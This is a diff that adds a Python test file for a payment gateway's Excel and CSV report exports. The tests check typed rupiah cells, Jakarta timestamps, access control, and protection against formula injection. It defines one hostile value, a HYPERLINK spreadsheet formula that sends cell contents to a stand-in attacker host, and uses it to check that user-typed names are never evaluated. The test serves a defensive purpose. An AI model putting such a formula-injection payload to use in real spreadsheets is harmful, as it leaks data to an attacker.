@@ -1,0 +1,212 @@
+"""Reports out to Excel, through the API, read back with openpyxl: the settlement statement, the
+cooperative report, the merchant's month, the member's statement (mutasi). Amounts are numbers
+with the rupiah format, times are Jakarta dates, the header is frozen, and a name a user typed is
+text, never a formula. CSV carries the same rows."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import openpyxl
+from problems import assert_problem
+
+from gateway import registry
+from gateway.api.export import XLSX
+from gateway.db import db, transaction
+from gateway.tables import jakarta
+
+EVIL = '=HYPERLINK("http://evil.example/steal?x="&A1,"klik")'
+
+
+def pay_static(city, member, merchant, amount):
+    response = city.pay_sticker(member, merchant, amount)
+    assert response.status_code == 201, response.get_json()
+    return response.get_json()
+
+
+def xlsx_book(response, name: str | None = None) -> openpyxl.Workbook:
+    """The workbook in a response, after checking it is one."""
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    assert response.mimetype == XLSX
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith("attachment;") and disposition.endswith('.xlsx"')
+    if name is not None:
+        assert f'filename="{name}.xlsx"' in disposition
+    return openpyxl.load_workbook(io.BytesIO(response.data))
+
+
+def sheet_rows(sheet) -> list[dict]:
+    """The sheet's rows as mappings from header to cell (so a test reads types and formats)."""
+    header = [cell.value for cell in sheet[1]]
+    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+
+def assert_typed_sheet(sheet, money_headers) -> None:
+    """A header row that stays, amounts as numbers in rupiah, and not a single formula."""
+    assert sheet.freeze_panes == "A2"
+    assert all(cell.font.bold for cell in sheet[1] if cell.value is not None)
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type != "f", (cell.coordinate, cell.value)
+    for row in sheet_rows(sheet):
+        for header in money_headers:
+            cell = row[header]
+            if cell.value is not None:
+                assert cell.data_type == "n" and isinstance(cell.value, int), cell.coordinate
+                assert "Rp" in cell.number_format and "#,##0" in cell.number_format
+
+
+def csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200, response.get_data(as_text=True)[:500]
+    assert response.mimetype == "text/csv"
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+def rename_cooperative(city, public_id: str, name: str) -> None:
+    with city.app.app_context():
+
+        def work(session):
+            registry.get_cooperative(session, public_id).name = name
+
+        transaction(db.session, work)
+
+
+def rename_merchant(city, public_id: str, name: str) -> None:
+    with city.app.app_context():
+
+        def work(session):
+            registry.get_merchant(session, public_id).name = name
+
+        transaction(db.session, work)
+
+
+# --- The settlement statement --------------------------------------------------------------------
+
+
+def test_the_window_statement_comes_as_xlsx_per_cooperative_and_pair_with_typed_cells(city):
+    ksm = city.make_cooperative("KSM")
+    kpp = city.make_cooperative("KPP", kind="market_traders")
+    rename_cooperative(city, kpp, EVIL)
+    ksm_admin, kpp_admin = city.make_admin(ksm), city.make_admin(kpp)
+    network = city.make_staff("network_admin")
+    siti = city.make_member(ksm)
+    assert city.cash_in(ksm_admin, siti, 500_000).status_code == 201
+    shop = city.make_merchant(kpp, kind="shop", category="small")
+    pay_static(city, siti, shop, 27_500)  # fee 193: 68 / 96 / 29
+    closed = city.post(network, "/api/v1/settlement/windows/current/close", None, key=None)
+    assert closed.status_code == 201, closed.get_json()
+    window = closed.get_json()
+    path = f"/api/v1/settlement/windows/{window['id']}"
+
+    book = xlsx_book(city.client.get(f"{path}.xlsx", headers=city.headers(network)), window["id"])
+    assert book.sheetnames == ["Posisi - Positions", "Pasangan - Pairs", "Jendela - Window"]
+    positions = book["Posisi - Positions"]
+    assert_typed_sheet(positions, ("position", "pays", "receives"))
+    by_cooperative = {row["cooperative"].value: row for row in sheet_rows(positions)}
+    assert by_cooperative[ksm]["position"].value == -27_500 + 68
+    assert by_cooperative[ksm]["pays"].value == 27_500 - 68
+    assert by_cooperative[kpp]["position"].value == 27_500 - 68 - 29
+    assert by_cooperative[kpp]["receives"].value == 27_500 - 68 - 29
+    # The cooperative's name is what an admin typed: text, shown as typed, never run.
+    evil = by_cooperative[kpp]["name"]
+    assert evil.value == EVIL and evil.data_type == "s"
+
+    pairs = book["Pasangan - Pairs"]
+    assert_typed_sheet(pairs, ("gross", "fee_issuer", "fee_acquirer", "fee_network", "refunds"))
+    (pair,) = sheet_rows(pairs)
+    assert (pair["issuer"].value, pair["acquirer"].value) == (ksm, kpp)
+    assert [pair[k].value for k in ("count", "gross", "fee_issuer", "fee_acquirer")] == [
+        1,
+        27_500,
+        68,
+        96,
+    ]
+    assert pair["count"].data_type == "n" and pair["count"].number_format == "#,##0"
+
+    (summary,) = sheet_rows(book["Jendela - Window"])
+    closed_at = summary["closed_at (WIB)"]
+    assert closed_at.is_date
+    # Jakarta wall-clock time (Excel keeps milliseconds).
+    expected = jakarta(datetime.fromisoformat(window["closed_at"]))
+    assert abs((closed_at.value - expected).total_seconds()) < 0.001
+    assert summary["network_position"].value == 29
+
+    # ?format=xlsx and the Accept header answer the same workbook; CSV carries the same lines.
+    for response in (
+        city.client.get(f"{path}?format=xlsx", headers=city.headers(network)),
+        city.client.get(path, headers={**city.headers(network), "Accept": XLSX}),
+    ):
+        again = xlsx_book(response)
+        assert [[c.value for c in r] for r in again["Posisi - Positions"].iter_rows()] == [
+            [c.value for c in r] for r in positions.iter_rows()
+        ]
+    lines = csv_rows(city.client.get(f"{path}.csv", headers=city.headers(network)))
+    assert lines[0] == ["Posisi - Positions"]
+    (kpp_line,) = [line for line in lines if line[:3] == ["position", window["id"], kpp]]
+    assert kpp_line[3:7] == ["KPP", str(27_500 - 68 - 29), "0", str(27_500 - 68 - 29)]
+    assert kpp_line[-1] == "'" + EVIL  # CSV: the name is quoted out of formula reach
+
+    # A cooperative admin's workbook holds its own lines only, and not the network's figure.
+    own = xlsx_book(city.client.get(f"{path}.xlsx", headers=city.headers(ksm_admin)))
+    assert [row["cooperative"].value for row in sheet_rows(own["Posisi - Positions"])] == [ksm]
+    assert sheet_rows(own["Jendela - Window"])[0]["network_position"].value is None
+    assert len(sheet_rows(own["Pasangan - Pairs"])) == 1
+    assert_problem(
+        city.client.get(f"{path}?format=pdf", headers=city.headers(network)),
+        422,
+        "validation-failed",
+    )
+    # A stranger without a cooperative gets no file.
+    member_answer = city.client.get(f"{path}.xlsx", headers=city.headers(siti))
+    assert member_answer.status_code == 403 and member_answer.mimetype != XLSX
+    del kpp_admin
+
+
+# --- The cooperative report ---------------------------------------------------------------------
+
+
+def test_the_cooperative_report_comes_as_xlsx_with_the_csv_rows_as_numbers(city):
+    ksm = city.make_cooperative("KSM")
+    kpp = city.make_cooperative("KPP", kind="market_traders")
+    ksm_admin, kpp_admin = city.make_admin(ksm), city.make_admin(kpp)
+    ani = city.make_member(ksm)
+    assert city.cash_in(ksm_admin, ani, 300_000).status_code == 201
+    assert city.cash_out(ksm_admin, ani, 20_000).status_code == 201
+    shop = city.make_merchant(kpp, kind="shop", category="small")
+    pay_static(city, ani, shop, 27_500)
+    today = datetime.now(UTC).astimezone(jakarta_zone()).date().isoformat()
+    period = f"from={today}&to={today}"
+    path = f"/api/v1/cooperatives/{ksm}/report"
+
+    csv_answer = csv_rows(city.get(ksm_admin, f"{path}.csv?{period}"))
+    assert csv_answer == csv_rows(city.get(ksm_admin, f"{path}?{period}&format=csv"))
+    for response in (
+        city.get(ksm_admin, f"{path}.xlsx?{period}"),
+        city.get(ksm_admin, f"{path}?{period}&format=xlsx"),
+        city.client.get(f"{path}?{period}", headers={**city.headers(ksm_admin), "Accept": XLSX}),
+    ):
+        book = xlsx_book(response, "report-KSM")
+        (sheet,) = book.worksheets
+        assert_typed_sheet(sheet, ("amount",))
+        cells = [[cell.value for cell in row] for row in sheet.iter_rows()]
+        # The same rows as CSV, numbers as numbers and empty cells empty.
+        assert cells == [
+            [(int(v) if v.lstrip("-").isdigit() else (v or None)) for v in line]
+            for line in csv_answer
+        ]
+        rows = {(r["figure"].value, r["detail"].value): r for r in sheet_rows(sheet)}
+        assert rows[("payments_made_by_members", "cross_cooperative")]["amount"].value == 27_500
+        assert rows[("cash_in", "own_members")]["amount"].value == 300_000
+        assert rows[("cash_out", "own_members")]["count"].value == 1
+        assert rows[("fee_income", kpp)]["amount"].value == 68
+    # Another cooperative's admin gets no file.
+    refused = city.get(kpp_admin, f"{path}.xlsx?{period}")
+    assert refused.status_code == 403 and refused.mimetype != XLSX
+
+
+def jakarta_zone():
+    from gateway.limits import JAKARTA
+
+    return JAKARTA
